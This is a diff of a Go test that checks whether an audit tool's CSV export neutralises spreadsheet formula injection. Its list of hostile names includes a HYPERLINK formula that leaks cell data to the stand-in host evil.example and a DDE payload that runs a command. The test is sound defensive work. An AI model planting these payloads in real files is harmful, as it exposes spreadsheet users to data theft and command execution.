@@ -17,31 +17,31 @@ import (
 	"testing"
 	"time"
 	"unicode"
-	"unicode/utf8"
 
 	"github.com/auditctl/auditctl/pkg/audit"
 	"github.com/auditctl/auditctl/pkg/report"
 )
 
-// What sites may call themselves so that a spreadsheet computes it, breaks its rows at it, or takes it for something else.
-var spiteNames = []string{
-	`=1+1`,
-	`+1+1`,
-	`-1+1`,
-	`@SUM(A1)`,
-	`=HYPERLINK("http://evil.example/?"&A1,"bread")`,
-	`=cmd|' /C calc'!A0`,
-	"\t=1+1",
-	"\r=1+1",
-	"\n=1+1",
-	"  =1+1",
-	"\u00a0\ufeff\u200b=1+1",
-	"\x00\u202e=1+1",
-	"＝1+1",
-	`";=1+1;"`,
-	"bread\r\n=1+1,\"=1+1\"",
-	`'=1+1`,
-	"\xff\xfe=1+1",
+// What sites may call themselves so that a spreadsheet computes it, breaks its rows at it, or takes it for something else, and what a reader of CSV finds in its
+// place.
+var spiteNames = []struct{ name, cell string }{
+	{`=1+1`, `'=1+1`},
+	{`+1+1`, `'+1+1`},
+	{`-1+1`, `'-1+1`},
+	{`@SUM(A1)`, `'@SUM(A1)`},
+	{`=HYPERLINK("http://evil.example/?"&A1,"bread")`, `'=HYPERLINK("http://evil.example/?"&A1,"bread")`},
+	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
+	{"\t=1+1", "'\t=1+1"},
+	{"\r=1+1", "'=1+1"},
+	{"\n=1+1", "'\n=1+1"},
+	{"  =1+1", "'  =1+1"},
+	{"\u00a0\ufeff\u200b=1+1", "'\u00a0\ufeff\u200b=1+1"},
+	{"\x00\u202e=1+1", "'=1+1"},
+	{"＝1+1", "'＝1+1"},
+	{`";=1+1;"`, `";=1+1;"`},
+	{"bread\r\n=1+1,\"=1+1\"", "bread\n=1+1,\"=1+1\""},
+	{`'=1+1`, `'=1+1`},
+	{"\xff\xfe=1+1", "\ufffd\ufffd=1+1"},
 }
 
 // A table whose names are hostile or in any script is read back as it was written, by a reader of CSV and by a spreadsheet program, which finds nothing
@@ -50,7 +50,10 @@ func TestATableIsReadBackWithoutAFormula(t *testing.T) {
 	aside(t)
 	begin(t)
 	r := rand.New(rand.NewPCG(5, 6)) // the same each time
-	list := slices.Clone(spiteNames)
+	var list []string
+	for _, spite := range spiteNames {
+		list = append(list, spite.name)
+	}
 	for range *names {
 		list = append(list, anyName(r))
 	}
@@ -60,19 +63,19 @@ func TestATableIsReadBackWithoutAFormula(t *testing.T) {
 		t.Fatalf("%d rows, %v", len(rows), err)
 	}
 	for i, name := range list {
+		if got := rows[i+1][slices.Index(rows[0], "audit_id")]; got != fmt.Sprintf("aud_%d", i) {
+			t.Errorf("the row of %q is that of audit %q", name, got)
+		}
+	}
+	for i, spite := range spiteNames {
 		for _, column := range []string{"domain", "industry", "type", "summary"} {
-			got := rows[i+1][slices.Index(rows[0], column)]
-			plain, marked := strings.CutPrefix(got, "'")
-			if want := shown(name); got != want && plain != want {
-				t.Errorf("%q is read back as %q", name, got)
-			}
-			if !marked && computed(got) {
-				t.Errorf("%q stands there as the formula %q", name, got)
+			if got := rows[i+1][slices.Index(rows[0], column)]; got != spite.cell {
+				t.Errorf("%q is read back as %q in column %s, want %q", spite.name, got, column, spite.cell)
 			}
 		}
 	}
 	tried := fmt.Sprintf("%d hostile and %d random names, in 4 columns each", len(spiteNames), *names)
-	seen := "encoding/csv gives every name back"
+	seen := "encoding/csv gives every row back"
 	office, err := exec.LookPath("soffice")
 	if err != nil {
 		record(t, tried, seen+"; no spreadsheet program is installed here")
@@ -134,23 +137,6 @@ func bare(t *testing.T, list []string) []byte {
 		t.Fatal(err)
 	}
 	return out.Bytes()
-}
-
-// shown is what of a name a table may hold: no control characters but tab and line feed, none that change the direction of writing, and U+FFFD for each byte that is no UTF-8.
-func shown(name string) string {
-	return strings.Map(func(r rune) rune {
-		if unicode.IsControl(r) && r != '\t' && r != '\n' || unicode.Is(unicode.Bidi_Control, r) {
-			return -1
-		}
-		return r
-	}, name)
-}
-
-// computed says that some spreadsheet program may take a cell for a formula.
-func computed(cell string) bool {
-	lead := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.In(r, unicode.Cf) })
-	first, _ := utf8.DecodeRuneInString(lead)
-	return cell != "" && strings.ContainsRune("\t\r\n", rune(cell[0])) || lead != "" && strings.ContainsRune("=+-@＝＋－＠", first)
 }
 
 // anyName is a name of characters of all of Unicode, every other time behind something that a formula may begin with.
